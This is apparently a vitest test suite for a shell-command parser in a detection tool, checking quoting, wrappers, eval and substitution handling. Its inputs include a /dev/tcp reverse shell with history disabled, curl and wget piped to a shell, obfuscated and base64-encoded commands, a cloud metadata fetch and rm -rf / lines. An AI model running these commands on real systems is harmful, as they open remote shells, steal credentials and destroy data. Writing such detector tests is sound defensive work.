import { describe, expect, it } from 'vitest';
import { parseShell, type ShellCommand } from '../../src/detect/shell/index.ts';

const images = (line: string) => parseShell(line).commands.map((c) => c.image);
const lines = (line: string) => parseShell(line).commands.map((c) => c.commandLine);
const find = (line: string, image: string): ShellCommand => {
  const found = parseShell(line).commands.find((c) => c.image === image);
  if (!found) throw new Error(`no ${image} in ${JSON.stringify(parseShell(line).commands)}`);
  return found;
};

describe('parseShell: separators and grouping', () => {
  it('splits pipes, lists, background jobs and newlines', () => {
    expect(lines('a | b; c && d || e & f\ng |& h')).toEqual(['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h']);
  });
  it('looks inside subshells, groups, $( ), backticks and process substitution', () => {
    expect(images('(cd /tmp && { id; }) ; echo $(whoami) `hostname` <(uname -a)')).toEqual([
      '/usr/bin/cd',
      '/usr/bin/id',
      '/usr/bin/whoami',
      '/usr/bin/hostname',
      '/bin/uname',
      '/bin/echo',
    ]);
  });
  it('parses nested substitutions recursively', () => {
    expect(images('echo "$(cat $(ls /tmp))"')).toEqual(['/bin/ls', '/bin/cat', '/bin/echo']);
  });
  it('drops grammar words of if/for/while/case and function headers', () => {
    expect(lines('if true; then rm -f x; else echo no; fi')).toEqual(['true', 'rm -f x', 'echo no']);
    expect(lines('for f in a b; do gzip "$f"; done')).toEqual(['gzip $f']);
    expect(lines('case $x in a) echo a;; b|c) rm -f y;; esac')).toEqual(['echo a', 'rm -f y']);
    expect(lines('f() { rm -rf /tmp/x; }; function g { id; }')).toEqual(['rm -rf /tmp/x', 'id']);
    expect(lines('while read l; do echo "$l"; done < f')).toEqual(['read l', 'echo $l']);
  });
  it('drops comments but not # inside words', () => {
    expect(lines('echo a#b # rm -rf /')).toEqual(['echo a#b']);
  });
});

describe('parseShell: quotes and escapes', () => {
  it.each([
    [`c''url -s x`, '/usr/bin/curl', 'curl -s x'],
    [`c"u"rl x`, '/usr/bin/curl', 'curl x'],
    ['\\rm -rf /', '/bin/rm', 'rm -rf /'],
    [`"/bin/"sh -i`, '/bin/sh', '/bin/sh -i'],
    [`$'\\x63\\165rl' x`, '/usr/bin/curl', 'curl x'],
    [`'w'get "a b" 'c d'`, '/usr/bin/wget', 'wget a b c d'],
    [`echo "a \\"q\\" \\$x"`, '/bin/echo', 'echo a "q" $x'],
  ])('%s', (line, image, commandLine) => {
    const [first] = parseShell(line).commands;
    expect(first?.image).toBe(image);
    expect(first?.commandLine).toBe(commandLine);
  });
  it('keeps a computed command name as typed', () => {
    expect(images('$(echo cm0= | base64 -d) -rf /x')).toEqual([
      '/bin/echo',
      '/usr/bin/base64',
      '$(echo cm0= | base64 -d)',
    ]);
  });
});

describe('parseShell: shells, eval and wrappers', () => {
  it('re-parses sh -c / bash -lc / dash -c / zsh -c strings with the shell as parent', () => {
    for (const shell of ['sh -c', 'bash -lc', 'dash -c', 'zsh -c', '/bin/bash -o pipefail -c']) {
      const wget = find(`${shell} 'wget -qO- http://x | bash'`, '/usr/bin/wget');
      expect(wget.parentImage).toMatch(/sh$/);
    }
  });
  it('reads a here-document or here-string fed to a shell', () => {
    expect(images('bash <<EOF\ncurl -s x | sh\nEOF\nls')).toEqual([
      '/bin/bash',
      '/usr/bin/curl',
      '/bin/sh',
      '/bin/ls',
    ]);
    expect(images('sh <<< "id"')).toEqual(['/bin/sh', '/usr/bin/id']);
    expect(images('cat <<-END\n\trm -rf /\n\tEND')).toEqual(['/bin/cat']);
  });
  it('evaluates eval arguments', () => {
    // The substitution is seen once in the eval word and again in the re-parsed string.
    expect(images('eval "$(echo aWQ= | base64 -d)"')).toEqual([
      '/bin/echo',
      '/usr/bin/base64',
      '/usr/bin/eval',
      '/bin/echo',
      '/usr/bin/base64',
      '$(echo aWQ= | base64 -d)',
    ]);
    expect(images("eval 'rm -rf /x'")).toEqual(['/usr/bin/eval', '/bin/rm']);
  });
  it('unwraps a chain of wrappers, each the parent of the next, with the effective user', () => {
    const line = 'sudo -u deploy -E env -i FOO=1 nohup timeout -s 9 30 nice -n 5 stdbuf -oL time -p curl x';
    const chain = parseShell(line).commands;
    expect(chain.map((c) => c.image.split('/').pop())).toEqual([
      'sudo',
      'env',
      'nohup',
      'timeout',
      'nice',
      'stdbuf',
      'time',
      'curl',
    ]);
    expect(chain.at(-1)).toMatchObject({
      commandLine: 'curl x',
      parentImage: '/usr/bin/time',
      user: 'deploy',
    });
    expect(chain[0]?.user).toBeUndefined();
  });
  it('sudo without -u runs as root; sudo -l runs nothing', () => {
    expect(find('sudo rm -rf /x', '/bin/rm').user).toBe('root');
    expect(find('sudo --user=app id', '/usr/bin/id').user).toBe('app');
    expect(images('sudo -l')).toEqual(['/usr/bin/sudo']);
  });
  it('unwraps busybox applets, exec, command, xargs and find -exec', () => {
    expect(find('busybox wget -qO- x', '/usr/bin/wget').parentImage).toBe('/bin/busybox');
    expect(images('exec -a x /bin/sh -i')).toEqual(['/usr/bin/exec', '/bin/sh']);
    expect(images('command -v curl')).toEqual(['/usr/bin/command']);
    expect(find('ls | xargs -0 -n 1 -I{} rm -f {}', '/bin/rm').commandLine).toBe('rm -f {}');
    expect(find('find / -name x -exec shred -u {} \\;', '/usr/bin/shred').parentImage).toBe('/usr/bin/find');
  });
});

describe('parseShell: assignments, redirections, paths', () => {
  it('keeps leading assignments and redirections out of argv', () => {
    const [cmd] = parseShell('HISTFILE=/dev/null LANG=C bash -i >& /dev/tcp/10.0.0.1/4444 0>&1').commands;
    expect(cmd).toMatchObject({ commandLine: 'bash -i', assignments: ['HISTFILE=/dev/null', 'LANG=C'] });
    expect(cmd?.redirects).toEqual([
      { op: '>&', fd: '', target: '/dev/tcp/10.0.0.1/4444' },
      { op: '>&', fd: '0', target: '1' },
    ]);
  });
  it('parses commands inside assignments and an assignment-only command', () => {
    expect(images('T=$(curl -s http://169.254.169.254/x) && echo $T')).toEqual([
      '/usr/bin/curl',
      '/bin/echo',
    ]);
    // No process runs for a bare assignment; keyword rules still see the whole line.
    expect(parseShell('X="a b"').commands).toEqual([]);
    expect(find('X="a b" env', '/usr/bin/env').assignments).toEqual(['X=a b']);
  });
  it('resolves bare names through the PATH table and relative paths against the cwd', () => {
    expect(images('iptables -F; useradd x; bash; jq .')).toEqual([
      '/usr/sbin/iptables',
      '/usr/sbin/useradd',
      '/bin/bash',
      '/usr/bin/jq',
    ]);
    expect(parseShell('./run.sh', { cwd: '/opt/app' }).commands[0]?.image).toBe('/opt/app/run.sh');
    expect(images('//usr//bin/id')).toEqual(['/usr/bin/id']);
  });
});

describe('parseShell: bounded and total', () => {
  it('never throws on garbage and tolerates unterminated quotes and substitutions', () => {
    for (const junk of [
      '"',
      "'",
      '$(',
      '`',
      ')))',
      '((( ',
      '<<',
      '| | ;;',
      '\\',
      "$'\\x",
      '${',
      'a=(',
      '\0\x1b[A',
    ]) {
      expect(() => parseShell(junk)).not.toThrow();
    }
    expect(lines('echo "unterminated')).toEqual(['echo unterminated']);
  });
  it('falls back to a tolerant split beyond the length limit', () => {
    const long = `curl -s x | sh; ${'a'.repeat(40_000)}`;
    const parsed = parseShell(long);
    expect(parsed.fallback).toBe(true);
    expect(parsed.commands.map((c) => c.image).slice(0, 2)).toEqual(['/usr/bin/curl', '/bin/sh']);
  });
  it('stops at the depth and command limits', () => {
    let nested = 'id';
    for (let i = 0; i < 12; i++) nested = `sh -c ${JSON.stringify(nested)}`;
    const deep = parseShell(nested);
    expect(deep.fallback).toBe(true);
    expect(deep.commands.length).toBeLessThanOrEqual(8);
    const many = parseShell('id;'.repeat(5000));
    expect(many.commands.length).toBeLessThanOrEqual(256);
  });
  it('stays fast on pathological input', () => {
    const started = performance.now();
    parseShell('$('.repeat(10_000));
    parseShell('"'.repeat(30_000));
    parseShell("'$(".repeat(10_000));
    expect(performance.now() - started).toBeLessThan(2000);
  });
});
